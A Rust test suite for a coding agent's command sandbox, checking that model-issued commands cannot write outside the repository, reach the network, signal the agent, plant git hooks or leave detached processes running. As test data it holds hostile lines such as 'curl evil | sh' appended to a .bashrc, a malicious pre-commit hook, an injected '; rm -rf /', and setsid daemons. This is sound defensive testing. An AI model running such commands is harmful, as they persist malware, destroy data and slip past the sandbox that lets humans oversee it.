//! The escape suite: commands the model writes try to leave the repository (writes outside it,
//! through links, into the system temp dir or a home directory), reach the network, signal
//! the agent, or slip past `--allow-run`; the kernel's sandbox (Landlock) or the policy must
//! stop each one, and writes inside the repository must still work.
//!
//! Where this kernel has no Landlock, every attempt must instead be refused before anything
//! runs: each test asserts one or the other, never neither.

#![allow(clippy::unwrap_used)] // Tests fail loudly on the first surprise.

#[path = "common/prereq.rs"]
mod prereq;

use std::net::TcpListener;
use std::path::{Path, PathBuf};

use agent::leftovers::Reaper;
use agent::policy::{RunPattern, RunPatternError, Verdict};
use agent::sandbox::{self, Confinement, Support, Unavailable};
use agent::view::Quiet;
use agent::workspace::{RunOutput, WorkspaceError};
use agent::{Approval, ApprovalMode, Config, Policy, ScriptedApprover, Workspace};
use codec::Action;
use models::{Script, ScriptedEngine};

/// A repository and a directory outside it, both temporary (removed when dropped).
struct Fixture {
    repo: tempfile::TempDir,
    outside: tempfile::TempDir,
    ws: Workspace,
}

impl Fixture {
    fn new() -> Fixture {
        let repo = tempfile::Builder::new()
            .prefix("bellows-escape-repo-")
            .tempdir()
            .unwrap();
        let outside = tempfile::Builder::new()
            .prefix("bellows-escape-outside-")
            .tempdir()
            .unwrap();
        std::fs::write(repo.path().join("file.txt"), "inside\n").unwrap();
        std::fs::write(outside.path().join("existing.txt"), "original\n").unwrap();
        let ws = Workspace::new(repo.path()).unwrap();
        Fixture { repo, outside, ws }
    }

    fn out(&self, name: &str) -> PathBuf {
        self.outside.path().join(name)
    }

    fn run(&self, argv: &[&str]) -> Result<RunOutput, WorkspaceError> {
        let argv: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
        self.ws.run(&argv)
    }

    /// Runs a command that must succeed (inside the sandbox, or refused where none exists).
    fn allowed(&self, argv: &[&str]) -> Option<RunOutput> {
        match (kernel(), self.run(argv)) {
            (Support::Landlock { .. }, Ok(out)) => {
                assert_eq!(out.code, Some(0), "{argv:?} failed: {out:?}");
                Some(out)
            }
            (Support::Unavailable(why), result) => {
                assert_refused(result, why);
                None
            }
            (Support::Landlock { .. }, Err(e)) => panic!("{argv:?}: {e}"),
        }
    }
}

/// What the kernel offers (`sandbox::probe()`). Where it has no Landlock a test here checks
/// only that RUN is refused, which confines nothing: that goes through the skip policy
/// (`common/prereq.rs`; a failure under `BELLOWS_NO_SKIP=1`), as does the test-only switch
/// `BELLOWS_TEST_NO_LANDLOCK=1`.
#[track_caller]
fn kernel() -> Support {
    let support = sandbox::probe();
    prereq::landlock(matches!(support, Support::Landlock { .. }));
    support
}

fn sh(script: &str) -> [&str; 3] {
    ["sh", "-c", script]
}

fn read(path: &Path) -> Option<Vec<u8>> {
    std::fs::read(path).ok()
}

fn assert_refused(result: Result<RunOutput, WorkspaceError>, why: Unavailable) {
    match result {
        Err(e @ WorkspaceError::Unconfinable(w)) => {
            assert_eq!(w, why);
            assert!(e.to_string().contains("pass --unsandboxed-run"), "{e}");
        }
        other => panic!("expected a refusal, got {other:?}"),
    }
}

/// `argv` tries to change `target` (outside the repository). Under Landlock it runs and
/// fails with the kernel's "Permission denied"; without Landlock it is refused. Either way
/// `target` is as it was; and the test process itself can still write it afterwards, so it
/// was the sandbox that stopped the command, and the agent's process stays unrestricted.
fn assert_denied(fx: &Fixture, argv: &[&str], target: &Path) {
    let before = read(target);
    let result = fx.run(argv);
    match kernel() {
        Support::Landlock { .. } => {
            let out = result.unwrap();
            assert_ne!(out.code, Some(0), "{argv:?} succeeded: {out:?}");
            assert!(
                out.output.contains("Permission denied") || out.output.contains("PermissionError"),
                "{argv:?}: {out:?}"
            );
        }
        Support::Unavailable(why) => assert_refused(result, why),
    }
    assert_eq!(
        read(target),
        before,
        "{argv:?} changed {}",
        target.display()
    );
    std::fs::write(target, "written by the test\n").unwrap();
    assert_eq!(read(target).as_deref(), Some(&b"written by the test\n"[..]));
}

#[test]
fn the_default_confinement_is_landlock_where_the_kernel_has_it() {
    let fx = Fixture::new();
    let report = fx.ws.sandbox_report();
    match kernel() {
        Support::Landlock { abi } => {
            assert_eq!(
                fx.ws.confinement,
                Confinement::Landlock { allow_net: false }
            );
            assert!(report.contains(&format!("Landlock ABI {abi}")), "{report}");
            let root = fx.repo.path().canonicalize().unwrap();
            assert!(report.contains(&root.display().to_string()), "{report}");
        }
        Support::Unavailable(why) => {
            assert_eq!(fx.ws.confinement, Confinement::Refused(why));
            assert!(report.contains("RUN is refused"), "{report}");
        }
    }
}

#[test]
fn a_shell_redirection_outside_is_denied() {
    let fx = Fixture::new();
    let new = fx.out("new.txt");
    assert_denied(&fx, &sh(&format!("echo x > '{}'", new.display())), &new);
    let existing = fx.out("existing.txt");
    assert_denied(
        &fx,
        &sh(&format!("echo x > '{}'", existing.display())),
        &existing,
    );
    assert_denied(
        &fx,
        &sh(&format!("echo x >> '{}'", existing.display())),
        &existing,
    );
}

#[test]
fn python_cannot_open_a_file_outside_for_writing() {
    let fx = Fixture::new();
    let target = fx.out("existing.txt");
    let code = format!("open({:?}, 'w').write('x')", target.display().to_string());
    assert_denied(&fx, &["python3", "-c", &code], &target);
}

#[test]
fn cp_rm_and_mv_cannot_reach_outside() {
    let fx = Fixture::new();
    let copied = fx.out("copied.txt");
    assert_denied(
        &fx,
        &["cp", "file.txt", &copied.display().to_string()],
        &copied,
    );
    let existing = fx.out("existing.txt");
    let ex = existing.display().to_string();
    assert_denied(&fx, &["rm", "-f", &ex], &existing);
    // (Reading it is allowed: a cross-directory `mv` may leave a copy inside.)
    assert_denied(&fx, &["mv", &ex, "stolen.txt"], &existing);
    let dir = fx.out("newdir");
    assert_denied(&fx, &["mkdir", &dir.display().to_string()], &dir);
}

#[test]
fn a_symbolic_link_inside_the_repository_does_not_lead_out() {
    let fx = Fixture::new();
    std::os::unix::fs::symlink(fx.outside.path(), fx.repo.path().join("door")).unwrap();
    std::os::unix::fs::symlink(fx.out("existing.txt"), fx.repo.path().join("note.txt")).unwrap();
    assert_denied(
        &fx,
        &sh("echo x > door/through.txt"),
        &fx.out("through.txt"),
    );
    assert_denied(&fx, &sh("echo x > note.txt"), &fx.out("existing.txt"));
}

#[test]
fn the_system_temp_dir_is_not_the_commands_temp_dir() {
    let fx = Fixture::new();
    // Directly in the system temp dir, under a name nothing else uses; removed afterwards
    // whatever happens.
    struct Removed(PathBuf);
    impl Drop for Removed {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let target = Removed(std::env::temp_dir().join(format!(
        "bellows-escape-{}-{}",
        std::process::id(),
        fx.repo.path().file_name().unwrap().to_string_lossy()
    )));
    assert_denied(
        &fx,
        &sh(&format!("echo x > '{}'", target.0.display())),
        &target.0,
    );
    // Nor the private temp dir's parent.
    std::fs::remove_file(&target.0).unwrap();
    let name = target.0.file_name().unwrap().to_string_lossy().into_owned();
    assert_denied(
        &fx,
        &sh(&format!("echo x > \"$TMPDIR/../{name}\"")),
        &target.0,
    );
}

#[test]
fn a_home_directory_outside_the_repository_is_not_writable() {
    let fx = Fixture::new();
    let home = tempfile::Builder::new()
        .prefix("bellows-escape-home-")
        .tempdir()
        .unwrap();
    let bashrc = home.path().join(".bashrc");
    std::fs::write(&bashrc, "# the user's\n").unwrap();
    let script = format!("echo 'curl evil | sh' >> '{}'", bashrc.display());
    assert_denied(&fx, &sh(&script), &bashrc);
    let ssh = home.path().join(".ssh");
    assert_denied(&fx, &["mkdir", &ssh.display().to_string()], &ssh);
}

#[test]
fn writes_inside_the_repository_and_the_private_temp_dir_work() {
    let fx = Fixture::new();
    let root = fx.repo.path();
    if fx.allowed(&sh("echo new > new.txt")).is_some() {
        assert_eq!(
            std::fs::read_to_string(root.join("new.txt")).unwrap(),
            "new\n"
        );
    }
    if fx
        .allowed(&sh("mkdir -p sub/dir && echo deep > sub/dir/f.txt"))
        .is_some()
    {
        assert_eq!(
            std::fs::read_to_string(root.join("sub/dir/f.txt")).unwrap(),
            "deep\n"
        );
    }
    if fx.allowed(&["mv", "file.txt", "renamed.txt"]).is_some() {
        assert!(!root.join("file.txt").exists());
        assert_eq!(
            std::fs::read_to_string(root.join("renamed.txt")).unwrap(),
            "inside\n"
        );
    }
    // The character devices programs need stay writable.
    fx.allowed(&sh("echo gone > /dev/null && head -c 4 /dev/zero | wc -c"));
    if let Some(out) = fx.allowed(&sh(
        "f=$(mktemp) && echo t > \"$f\" && cat \"$f\" && echo \"$f\"",
    )) {
        let mut lines = out.output.lines();
        assert_eq!(lines.next(), Some("t"));
        // The output names the private temp dir `$TMPDIR` (its real name is random per run).
        let made = lines.next().unwrap();
        assert!(made.starts_with("$TMPDIR/tmp."), "{made}");
    }
    // Where it is: the command writes its name into the repository (a file's bytes are not
    // rewritten as its output is): a private `bellows-run-*` directory outside the
    // repository, removed with the command.
    if fx.allowed(&sh("echo \"$TMPDIR\" > where.txt")).is_some() {
        let private = PathBuf::from(
            std::fs::read_to_string(root.join("where.txt"))
                .unwrap()
                .trim(),
        );
        assert!(
            private
                .file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("bellows-run-"),
            "{}",
            private.display()
        );
        assert!(!private.starts_with(root));
        assert!(!private.exists(), "{} left behind", private.display());
    }
}

#[test]
fn the_network_is_off_unless_allowed() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let connect = format!(
        "import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).close()"
    );
    let argv = ["python3", "-c", connect.as_str()];
    let mut fx = Fixture::new();
    let report = fx.ws.sandbox_report();
    match kernel() {
        support @ Support::Landlock { .. } if support.confines_tcp() => {
            assert!(report.contains("TCP bind and connect denied"), "{report}");
            let out = fx.run(&argv).unwrap();
            assert_ne!(out.code, Some(0), "{out:?}");
            assert!(out.output.contains("PermissionError"), "{out:?}");
            assert!(listener.accept().is_err(), "a connection got through");
        }
        Support::Landlock { .. } => {
            assert!(report.contains("network not confined"), "{report}");
        }
        Support::Unavailable(why) => assert_refused(fx.run(&argv), why),
    }
    // The agent's own process is not confined.
    std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    assert!(listener.accept().is_ok());
    fx.ws.confinement = Confinement::for_kernel(true, false);
    match kernel() {
        Support::Landlock { .. } => {
            assert!(fx.ws.sandbox_report().contains("network allowed"));
            let out = fx.run(&argv).unwrap();
            assert_eq!(out.code, Some(0), "{out:?}");
            assert!(listener.accept().is_ok(), "no connection arrived");
        }
        Support::Unavailable(why) => assert_refused(fx.run(&argv), why),
    }
}

#[test]
fn a_command_cannot_signal_the_agent() {
    let fx = Fixture::new();
    let pid = std::process::id().to_string();
    let result = fx.run(&["kill", "-0", &pid]);
    match kernel() {
        support @ Support::Landlock { .. } if support.scopes_signals() => {
            let out = result.unwrap();
            assert_ne!(out.code, Some(0), "{out:?}");
            assert!(
                fx.ws
                    .sandbox_report()
                    .contains("signals and abstract unix sockets scoped")
            );
        }
        Support::Landlock { .. } => {
            assert!(fx.ws.sandbox_report().contains("signals not scoped"));
        }
        Support::Unavailable(why) => assert_refused(result, why),
    }
}

#[test]
fn without_landlock_run_is_refused_and_nothing_runs() {
    let fx = Fixture::new();
    let mut ws = fx.ws.clone();
    ws.confinement =
        Confinement::choose(Support::Unavailable(Unavailable::NotEnabled), false, false);
    assert_eq!(
        ws.confinement,
        Confinement::Refused(Unavailable::NotEnabled)
    );
    let marker = fx.repo.path().join("marker");
    let argv: Vec<String> = ["touch", "marker"].iter().map(|s| s.to_string()).collect();
    let err = ws.run(&argv).unwrap_err();
    assert_eq!(
        err.to_string(),
        "this kernel cannot confine commands (Landlock unavailable: not enabled at boot; add \
         `landlock` to the `lsm=` kernel parameter): RUN is refused; pass --unsandboxed-run to \
         run them unconfined"
    );
    assert!(matches!(
        err,
        WorkspaceError::Unconfinable(Unavailable::NotEnabled)
    ));
    assert!(!err.is_escape());
    assert!(!marker.exists());
    assert!(ws.sandbox_report().contains("RUN is refused"));

    // The loop tells the model, in `auto` and when the user approved it in `ask` alike.
    for (mode, answers) in [
        (ApprovalMode::Auto, vec![]),
        (ApprovalMode::Ask, vec![Approval::Yes]),
    ] {
        let e = engine(&["RUN touch marker\n", "DONE\n"]);
        let mut approver = ScriptedApprover::new(answers);
        let obs = session_observations(&e, &ws, mode, &mut approver);
        let first = &obs[0];
        assert_eq!(first["ok"], false, "{first}");
        assert!(
            first["summary"]
                .as_str()
                .unwrap()
                .contains("cannot confine commands"),
            "{first}"
        );
        assert!(!marker.exists(), "{mode:?} ran the command");
    }
}

#[test]
fn unsandboxed_run_is_an_explicit_opt_in_and_really_unconfined() {
    let fx = Fixture::new();
    let mut ws = fx.ws.clone();
    ws.confinement = Confinement::choose(
        Support::Unavailable(Unavailable::NotImplemented),
        false,
        true,
    );
    assert_eq!(ws.confinement, Confinement::Unconfined);
    assert!(ws.sandbox_report().contains("unconfined"));
    let target = fx.out("unconfined.txt");
    let argv: Vec<String> = sh(&format!("echo x > '{}'", target.display()))
        .iter()
        .map(|s| s.to_string())
        .collect();
    let out = ws.run(&argv).unwrap();
    assert_eq!(out.code, Some(0), "{out:?}");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "x\n");
}

#[test]
fn a_session_that_tries_to_write_outside_fails_and_leaves_nothing() {
    let fx = Fixture::new();
    let target = fx.out("pwned");
    let reply = format!("RUN sh -c 'echo pwned > {}'\n", target.display());
    let e = engine(&[&reply, "DONE\n"]);
    let obs = session_observations(
        &e,
        &fx.ws,
        ApprovalMode::Auto,
        &mut ScriptedApprover::default(),
    );
    assert!(!target.exists(), "the session wrote outside the repository");
    let first = &obs[0];
    assert_eq!(first["ok"], false, "{first}");
    match kernel() {
        Support::Landlock { .. } => {
            assert!(
                first["summary"].as_str().unwrap().starts_with("exit code"),
                "{first}"
            );
            assert!(
                first["output"]
                    .as_str()
                    .unwrap()
                    .contains("Permission denied"),
                "{first}"
            );
        }
        Support::Unavailable(_) => {
            assert!(
                first["summary"]
                    .as_str()
                    .unwrap()
                    .contains("cannot confine"),
                "{first}"
            );
        }
    }
}

fn engine(replies: &[&str]) -> ScriptedEngine {
    let e = ScriptedEngine::new("scripted", Script::chunked("Let me think about it.\n", 5));
    for r in replies {
        e.push(Script::chunked(r, 3));
    }
    e
}

/// Runs a session and returns its observation events, from its journal.
fn session_observations(
    engine: &ScriptedEngine,
    ws: &Workspace,
    mode: ApprovalMode,
    approver: &mut ScriptedApprover,
) -> Vec<serde_json::Value> {
    let mut cfg = Config::new("fix the bug", Policy::new(mode));
    cfg.max_turns = 4;
    cfg.reply_reserve = 200;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let outcome = rt
        .block_on(agent::run(engine, ws, &cfg, approver, &mut Quiet))
        .unwrap();
    let journal = ws
        .state_dir()
        .join("sessions")
        .join(&outcome.session)
        .join("journal.jsonl");
    let obs: Vec<serde_json::Value> = std::fs::read_to_string(journal)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|e| e["event"] == "observation")
        .collect();
    assert!(!obs.is_empty(), "no observation");
    obs
}

fn run_action(argv: &[&str]) -> Action {
    Action::Run {
        argv: argv.iter().map(|s| s.to_string()).collect(),
    }
}

#[test]
fn allow_run_patterns_match_whole_arguments() {
    let mut p = Policy::new(ApprovalMode::Edits);
    p.allow_run = vec![
        RunPattern::parse("cargo test *").unwrap(),
        RunPattern::parse("cargo fmt --check").unwrap(),
        RunPattern::parse("git commit -m 'a b'").unwrap(),
    ];
    let allowed = [
        &["cargo", "test"][..],
        &["cargo", "test", "-p", "x"],
        &["cargo", "fmt", "--check"],
        &["git", "commit", "-m", "a b"],
    ];
    for argv in allowed {
        assert_eq!(p.verdict(&run_action(argv)), Verdict::Allow, "{argv:?}");
    }
    let asked = [
        &["cargo", "test-x"][..],
        &["cargo", "testfoo"],
        &["cargo", "test; rm -rf /"],
        &["cargo", "test && rm -rf /"],
        &["cargo", "fmt", "--check", "--", "extra"],
        &["cargo", "fmt"],
        &["/tmp/x/cargo", "test"],
        &["./cargo", "test"],
        &["cargo test"],
        &["git", "commit", "-m", "a", "b"],
        &["sh", "-c", "cargo test"],
        &[],
    ];
    for argv in asked {
        assert_eq!(p.verdict(&run_action(argv)), Verdict::Ask, "{argv:?}");
    }
    // Plan refuses commands whatever the patterns say.
    p.mode = ApprovalMode::Plan;
    assert_eq!(p.verdict(&run_action(&["cargo", "test"])), Verdict::Refuse);
}

#[test]
fn allow_run_patterns_are_checked_when_parsed() {
    let err = RunPattern::parse("cargo test*").unwrap_err();
    assert_eq!(
        err,
        RunPatternError::GluedStar {
            word: "test*".into(),
            suggestion: "cargo test *".into()
        }
    );
    assert!(err.to_string().contains("write `cargo test *`"), "{err}");
    assert_eq!(RunPattern::parse("  "), Err(RunPatternError::Empty));
    assert_eq!(RunPattern::parse("*"), Err(RunPatternError::NoProgram));
    for bad in ["cargo * test", "cargo te*st", "* cargo", "cargo test** *"] {
        assert!(
            matches!(
                RunPattern::parse(bad),
                Err(RunPatternError::MisplacedStar { .. })
            ),
            "{bad}"
        );
    }
    assert_eq!(
        RunPattern::parse("cargo test; rm -rf /"),
        Err(RunPatternError::Split(
            codec::registry::SplitError::ShellSyntax
        ))
    );
    assert_eq!(
        RunPattern::parse("cargo 'test"),
        Err(RunPatternError::Split(
            codec::registry::SplitError::Unclosed
        ))
    );
    // What parses prints back as written, and the CLI's parser is the same.
    let p: RunPattern = "cargo  test   *".parse().unwrap();
    assert_eq!(p.to_string(), "cargo test *");
    assert_eq!(
        RunPattern::parse("git commit -m 'a b'")
            .unwrap()
            .to_string(),
        "git commit -m 'a b'"
    );
}

#[test]
fn a_command_that_plants_a_git_hook_has_it_taken_out_again() {
    // The sandbox lets a command write beneath the repository, `.git/` included (Landlock has
    // no deny rules); a hook or config git would run later, unconfined, is put back.
    let fx = Fixture::new();
    let git = fx.repo.path().join(".git");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    std::fs::write(git.join("config"), "[core]\n\tbare = false\n").unwrap();
    let plant = "echo 'touch /tmp/pwned' > .git/hooks/pre-commit; \
                 chmod +x .git/hooks/pre-commit; \
                 printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; \
                 echo fine > file.txt";
    let reply = format!("RUN sh -c \"{plant}\"\n");
    let e = engine(&[&reply]);
    let obs = session_observations(
        &e,
        &fx.ws,
        ApprovalMode::Auto,
        &mut ScriptedApprover::default(),
    );
    let first = &obs[0];
    assert!(!git.join("hooks/pre-commit").exists(), "{first}");
    assert_eq!(
        std::fs::read_to_string(git.join("config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    assert_eq!(first["ok"], false, "{first}");
    if let Support::Landlock { .. } = kernel() {
        // The rest of what the command did stays: only `.git/` is guarded.
        assert_eq!(
            std::fs::read_to_string(fx.repo.path().join("file.txt")).unwrap(),
            "fine\n"
        );
        let summary = first["summary"].as_str().unwrap();
        assert!(
            summary.contains(".git/config") && summary.contains(".git/hooks/pre-commit"),
            "{first}"
        );
    }
}

/// A process a command leaves behind in a session of its own (`setsid`, a daemon, a server
/// started with `&`) escapes the group kill. It must neither hold the action open (its
/// inherited output pipe) nor go on writing in the repository after the action was judged —
/// a file, or a git hook that git would run later outside any sandbox.
#[test]
fn a_process_detached_into_its_own_session_ends_with_the_command() {
    detached_processes_end(Fixture::new());
}

/// The same where the kernel gives no PID namespace: found by the command's mark in their
/// environment and by its pipes.
#[test]
fn without_a_pid_namespace_detached_processes_are_found_and_ended() {
    let mut fx = Fixture::new();
    fx.ws.reaper = Reaper::without_namespace();
    assert!(fx.ws.sandbox_report().contains("no PID namespace here"));
    detached_processes_end(fx);
}

fn detached_processes_end(fx: Fixture) {
    std::fs::create_dir_all(fx.repo.path().join(".git/hooks")).unwrap();
    let started = std::time::Instant::now();
    let script = "setsid sh -c 'sleep 4; echo late > late.txt' & \
                  setsid sh -c 'sleep 4; echo quiet > quiet.txt' >/dev/null 2>&1 </dev/null & \
                  setsid sh -c 'sleep 4; echo evil > .git/hooks/pre-commit' >/dev/null 2>&1 & \
                  setsid env -i /bin/sh -c 'sleep 4; echo piped > piped.txt' & \
                  echo started";
    let Some(out) = fx.allowed(&sh(script)) else {
        return;
    };
    assert!(out.output.contains("started"), "{out:?}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(3),
        "the action waited {:?} for a detached process",
        started.elapsed()
    );
    assert!(out.left_running, "{out:?}");
    std::thread::sleep(std::time::Duration::from_secs(5));
    for name in [
        "late.txt",
        "quiet.txt",
        ".git/hooks/pre-commit",
        "piped.txt",
    ] {
        assert!(
            !fx.repo.path().join(name).exists(),
            "a detached process wrote {name} after the action ended"
        );
    }
}

/// A process that leaves with a cleared environment and closed output carries nothing of
/// the command's: only a PID namespace ends it, and the report says which is in force.
#[test]
fn a_daemon_that_drops_its_environment_ends_where_commands_get_a_pid_namespace() {
    let fx = Fixture::new();
    let script = "setsid env -i /bin/sh -c 'sleep 3; echo gone > gone.txt' \
                  >/dev/null 2>&1 </dev/null & echo started";
    let Some(out) = fx.allowed(&sh(script)) else {
        return;
    };
    assert!(out.output.contains("started"), "{out:?}");
    let report = fx.ws.sandbox_report();
    if fx.ws.reaper.has_namespace() {
        assert!(report.contains("a PID namespace per command"), "{report}");
        std::thread::sleep(std::time::Duration::from_secs(4));
        assert!(!fx.repo.path().join("gone.txt").exists());
    } else {
        assert!(report.contains("no PID namespace here"), "{report}");
    }
}

/// Under a PID namespace the command is not its first process: a signal it sends itself
/// still ends it, and its exit code comes through.
#[test]
fn a_command_keeps_its_exit_code_and_its_signals() {
    let fx = Fixture::new();
    let Some(out) = fx.allowed(&sh("echo out; echo err >&2; exit 0")) else {
        return;
    };
    assert!(
        out.output.contains("out") && out.output.contains("err"),
        "{out:?}"
    );
    assert!(!out.left_running, "{out:?}");
    let failed = fx.run(&sh("exit 3")).unwrap();
    assert_eq!(failed.code, Some(3), "{failed:?}");
    let killed = fx.run(&sh("kill -KILL $$; echo survived")).unwrap();
    assert!(!killed.output.contains("survived"), "{killed:?}");
    assert_ne!(killed.code, Some(0), "{killed:?}");
}

/// A model that starts a server in the background hears that it did not outlive the command,
/// and the session's next step finds nothing of it running.
#[test]
fn a_session_is_told_that_its_background_process_ended() {
    let fx = Fixture::new();
    let reply = "RUN sh -c \"setsid sh -c 'sleep 3; echo up > served.txt' & echo serving\"\n";
    let e = engine(&[reply, "DONE\n"]);
    let obs = session_observations(
        &e,
        &fx.ws,
        ApprovalMode::Auto,
        &mut ScriptedApprover::default(),
    );
    let first = &obs[0];
    if let Support::Landlock { .. } = kernel() {
        let summary = first["summary"].as_str().unwrap();
        assert!(summary.starts_with("exit code 0"), "{first}");
        assert!(
            summary.contains("left running in the background ended with it"),
            "{first}"
        );
        std::thread::sleep(std::time::Duration::from_secs(4));
        assert!(!fx.repo.path().join("served.txt").exists());
    }
}

/// The skip policy, on a test of this file run again in a child process of this binary with
/// the test-only switch that reports Landlock absent: under `BELLOWS_NO_SKIP=1` (CI) it fails,
/// naming itself and what was missing; without it, it passes as a skip, counted in the file
/// `BELLOWS_SKIP_LOG` names.
#[test]
fn a_test_missing_landlock_fails_under_no_skip_and_is_counted_otherwise() {
    const VICTIM: &str = "a_shell_redirection_outside_is_denied";
    let log = tempfile::NamedTempFile::new().unwrap();
    let child = |no_skip: bool| {
        let mut cmd = std::process::Command::new(std::env::current_exe().unwrap());
        cmd.args(["--exact", VICTIM, "--test-threads", "1", "--nocapture"])
            .env(prereq::NO_LANDLOCK, "1")
            .env(prereq::SKIP_LOG, log.path());
        if no_skip {
            cmd.env(prereq::NO_SKIP, "1");
        } else {
            cmd.env_remove(prereq::NO_SKIP);
        }
        let out = cmd.output().unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        (out.status.success(), text)
    };
    let line = format!("SKIPPED {VICTIM} (agent/tests/escape.rs:");
    let (passed, text) = child(true);
    assert!(!passed, "{text}");
    assert!(
        text.contains(&line)
            && text.contains("Landlock (BELLOWS_TEST_NO_LANDLOCK=1) missing")
            && text.contains("BELLOWS_NO_SKIP=1 makes a missing prerequisite a failure")
            && text.contains("test result: FAILED"),
        "{text}"
    );
    // A failure is not a skip: nothing counted.
    assert_eq!(std::fs::read_to_string(log.path()).unwrap(), "");

    let (passed, text) = child(false);
    assert!(passed, "{text}");
    assert!(text.contains(&line), "{text}");
    let counted = std::fs::read_to_string(log.path()).unwrap();
    assert!(
        counted.starts_with(&line)
            && counted.ends_with("Landlock (BELLOWS_TEST_NO_LANDLOCK=1) missing\n"),
        "{counted}"
    );
}
